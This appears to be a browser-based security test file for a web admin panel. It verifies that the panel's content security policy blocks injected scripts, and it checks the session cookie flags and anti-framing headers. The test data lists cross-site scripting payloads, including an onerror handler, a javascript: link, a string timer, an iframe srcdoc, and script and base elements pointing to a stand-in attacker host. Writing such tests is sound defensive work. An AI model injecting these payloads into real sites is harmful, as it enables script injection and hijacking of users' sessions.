// A script that got into a page of the panel by a fault runs in none of the ways in which it could.
import assert from "node:assert/strict";
import { panel } from "../support/panel.js";

/** What an attacker would have the page do, and what the page is made to do for it. */
const WAYS: readonly (readonly [name: string, inject: string])[] = [
  [
    "an element of its own",
    `document.body.append(Object.assign(document.createElement("script"), { textContent: "window.injected = true" }))`,
  ],
  [
    "a file from elsewhere",
    `document.body.append(Object.assign(document.createElement("script"), { src: "https://attacker.example/x.js" }))`,
  ],
  ["text with a handler", `document.body.innerHTML = "<img src=x onerror='window.injected = true'>"`],
  ["a handler", `document.body.setAttribute("onclick", "window.injected = true"); document.body.click()`],
  [
    "an address",
    `const link = document.createElement("a");
     link.href = "javascript:window.injected = true";
     document.body.append(link);
     link.click()`,
  ],
  ["a text that is run later", `window.setTimeout("window.injected = true")`],
  [
    "a frame",
    `document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.injected = true</script>" }))`,
  ],
  [
    "a base for relative addresses",
    `document.head.append(Object.assign(document.createElement("base"), { href: "https://attacker.example/" }))`,
  ],
];

/** Runs the injection as the page's own code, and waits until the page has said what it violates. */
const attempt = (inject: string): string => `
  new Promise((resolve) => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective), { once: true });
    try { ${inject} } catch (error) { if (!(error instanceof TypeError)) throw error; }
  })`;

describe("a script in a page of the panel", () => {
  for (const [name, inject] of WAYS) {
    it(`does not run through ${name}`, async () => {
      const { page } = await panel.open("/");
      await page.getByRole("heading", { level: 1, name: "Overview" }).waitFor();
      const asked: string[] = [];
      page.on("request", (request) => asked.push(new URL(request.url()).origin));
      assert.match(
        await page.evaluate<string>(attempt(inject)),
        /^(?:script-src|require-trusted-types|frame-src|base-uri)/,
      );
      assert.equal(await page.evaluate("window.injected"), undefined);
      assert.deepEqual(
        asked.filter((origin) => origin !== panel.url),
        [],
      );
    });
  }
});

describe("another site", () => {
  it("sends no session along, and reads none: its cookie is for the service's own pages, and for no script", async () => {
    const { page } = await panel.open("/");
    await page.getByRole("heading", { level: 1, name: "Overview" }).waitFor();
    const kept = await page.context().cookies();
    assert.deepEqual(
      kept.map(({ name, sameSite, httpOnly }) => [name, sameSite, httpOnly]),
      [["drover_session", "Strict", true]],
    );
  });

  for (const [path, framedBy] of [
    ["/", "none"],
    ["/graphql", "none"],
    ["/graphql/graphiql", "self"],
    ["/api/v1/docs", "none"],
  ] as const) {
    it(`cannot frame or embed ${path}, nor reach it through the window that opened it`, async () => {
      const { page } = await panel.openAsNobody();
      const headers = (await page.request.get(panel.url + path, { headers: { Accept: "text/html" } })).headers();
      assert.match(headers["content-security-policy"] ?? "", new RegExp(`frame-ancestors '${framedBy}'`));
      assert.partialDeepStrictEqual(headers, {
        "cross-origin-embedder-policy": "require-corp",
        "cross-origin-opener-policy": "same-origin",
        "cross-origin-resource-policy": "same-origin",
      });
    });
  }
});
